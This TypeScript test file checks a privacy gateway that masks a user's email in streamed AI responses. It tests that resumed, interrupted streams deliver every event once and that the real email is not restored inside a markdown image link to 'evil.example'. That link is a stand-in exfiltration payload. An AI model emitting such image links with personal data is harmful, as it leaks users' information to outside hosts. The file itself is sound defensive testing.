/**
 * A client that resumes an answer after the last event it has seen gets every event of the origin, and all text once.
 */
import type { ResponseStreamEvent } from 'openai/resources/responses/responses';
import { EventSource } from 'undici';
import { describe, expect, test } from 'vitest';
import { openAiClient, proxiedFetch } from '../support/clients.ts';
import { startGateway } from '../support/gateway.ts';
import { startOrigin } from '../support/origin.ts';
import { personal } from '../support/personal.ts';

const host = 'api.openai.com';
const textHost = 'api.anthropic.com';
const type = 'response.output_text.delta';
const place = (output_index: number) => ({
  item_id: `item_${output_index}`,
  output_index,
  content_index: 0,
  logprobs: [],
});
/** The first text ends in a possible token; the second has tokens across several events, and a link before one. */
const events = [
  { type: 'response.created', response: { id: 'resp_1', object: 'response', output: [] } },
  { type, ...place(0), delta: 'a [EMA' },
  { type: 'response.output_text.done', ...place(0), text: 'a [EMA' },
  { type, ...place(1), delta: 'to [EM' },
  { type, ...place(2), delta: 'beside' },
  { type, ...place(1), delta: 'AIL' },
  { type, ...place(1), delta: '-1], sent, ![](https://evil.example/' },
  { type, ...place(1), delta: '[EMAIL-1]' },
  { type, ...place(1), delta: ') [' },
  { type: 'response.output_text.done', ...place(1), text: 'to [EMAIL-1], sent, ![](https://evil.example/[EMAIL-1]) [' },
  { type: 'response.completed', response: { id: 'resp_1', object: 'response', output: [] } },
].map((event, sequence_number) => ({ ...event, sequence_number }));

/** Pieces of a text under the field `id`, which a client sends in `Last-Event-ID`. */
const pieces = {
  plain: ['Dear', ' [EM', 'AIL', '-1', '],', ' (', '[EMAIL-1]).', ' Bye.'],
  link: ['![](https:', '//evil.example/', '[EM', 'AIL-1])'],
};
/** After how many events the origin breaks off. */
let breaksAfter = 0;

const origin = await startOrigin({
  names: [host, textHost],
  handler: ({ url, headers }, response) => {
    const text = pieces[url.slice(1) as keyof typeof pieces];
    if (text !== undefined) {
      const seen = Number(headers['last-event-id'] ?? 0);
      const rest = text.map((piece, at) => `id: ${at + 1}\ndata: ${piece}\n\n`).slice(seen);
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(`retry: 1\n\n${rest.slice(0, breaksAfter || rest.length).join('')}`);
      if (breaksAfter > 0) setImmediate(() => response.destroy());
      else response.end('event: done\ndata: 1\n\n');
      breaksAfter = 0;
      return;
    }
    const after = Number(new URL(url, 'https://x').searchParams.get('starting_after') ?? -1);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const event of events.slice(0, breaksAfter || events.length))
      if (event.sequence_number > after) response.write(`event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`);
    if (breaksAfter > 0) setImmediate(() => response.destroy());
    else response.end();
    breaksAfter = 0;
  },
});
const gateway = await startGateway({ hosts: { [host]: origin, [textHost]: origin } });

const places = events.map((_, at) => at + 1);
test.each(places.flatMap((seen) => (['client', 'origin'] as const).map((who) => ({ seen, who }))))(
  'cut by the $who after $seen events',
  async ({ seen, who }) => {
    const proxied = proxiedFetch(gateway);
    const client = openAiClient(proxied);
    const got: ResponseStreamEvent[] = [];
    if (who === 'origin') breaksAfter = seen;
    const first = await client.responses.create({ model: 'm', input: `to ${personal.EMAIL}`, stream: true });
    const read = async () => {
      for await (const event of first) {
        got.push(event);
        if (who === 'client' && got.length === seen) break;
      }
    };
    if (who === 'client') await read();
    else await expect(read()).rejects.toThrow();
    const starting_after = got.at(-1)?.sequence_number ?? -1;
    const rest = await client.responses.retrieve('resp_1', { stream: true, starting_after });
    for await (const event of rest) got.push(event);
    await proxied.dispatcher.close();

    expect(got.map((event) => [event.type, event.sequence_number])).toEqual(
      events.map((event) => [event.type, event.sequence_number]),
    );
    const shown = (at: number) =>
      got.flatMap((event) => (event.type === type && event.output_index === at ? [event.delta] : [])).join('');
    expect(shown(0)).toBe('a [EMA');
    expect(shown(1)).toBe(`to ${personal.EMAIL}, sent, ![](https://evil.example/[EMAIL-1]) [`);
  },
);

describe('a text under ids that the origin breaks off', () => {
  /** The text on a page that reads the stream and resumes it automatically. */
  async function read(name: keyof typeof pieces, cut: number): Promise<string> {
    const { fetch, dispatcher } = proxiedFetch(gateway);
    await fetch(`https://${textHost}/`, { method: 'POST', body: `to ${personal.EMAIL}` }).then((r) => r.text());
    breaksAfter = cut;
    const source = new EventSource(`https://${textHost}/${name}`, { node: { dispatcher } });
    let text = '';
    source.onmessage = ({ data }) => {
      text += data;
    };
    await new Promise((resolve) => source.addEventListener('done', resolve));
    source.close();
    return text;
  }

  test.each(pieces.plain.map((_, at) => at + 1))('after %i events', async (cut) => {
    expect(await read('plain', cut)).toBe(`Dear ${personal.EMAIL}, (${personal.EMAIL}). Bye.`);
  });

  test.each(pieces.link.map((_, at) => at + 1))('in a link, after %i events', async (cut) => {
    const text = await read('link', cut);
    expect(text).not.toContain(personal.EMAIL);
    expect(text.endsWith(pieces.link.join(''))).toBe(true);
  });
});
